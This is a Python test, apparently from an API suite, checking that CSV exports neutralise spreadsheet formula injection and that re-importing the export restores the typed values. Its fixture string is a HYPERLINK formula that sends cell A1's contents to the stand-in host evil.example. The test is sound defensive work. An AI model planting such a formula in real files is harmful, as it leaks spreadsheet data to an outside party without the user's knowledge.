"""CSV exports over REST never hand a spreadsheet a formula, and importing the export gives back the typed value."""

from __future__ import annotations

import csv
import io

from tests.api.conftest import Api

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Klick")'


def test_export_neutralises_and_import_restores(api: Api) -> None:
    sales, manager = api.client("sales"), api.client("manager")
    created = sales.post("/accounts", json={"name": HOSTILE}).json()
    assert sales.post(f"/accounts/{created['id']}/contacts",
                      json={"lastName": "@Berger", "phone": "+43 1 5123456"}).status_code == 201
    exported = sales.get("/exports/contacts")
    assert exported.status_code == 200
    [row] = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert row["lastName"] == "'@Berger" and row["phone"] == "'+4315123456"
    accounts = sales.get("/accounts", params={"format": "csv"}).content.decode("utf-8-sig")
    assert f'"\'{HOSTILE.replace(chr(34), 2 * chr(34))}"' in accounts
    # the same file imported updates the contact with the values as typed, not with the quote
    report = manager.post("/imports/contacts", files={"file": ("c.csv", exported.content, "text/csv")})
    assert report.status_code == 200 and report.json()["failed"] == 0, report.text
    assert report.json()["updated"] == 1, report.text
    [contact] = sales.get("/contacts", params={"accountId": created["id"]}).json()["items"]
    assert contact["lastName"] == "@Berger" and contact["phone"] == "+4315123456"
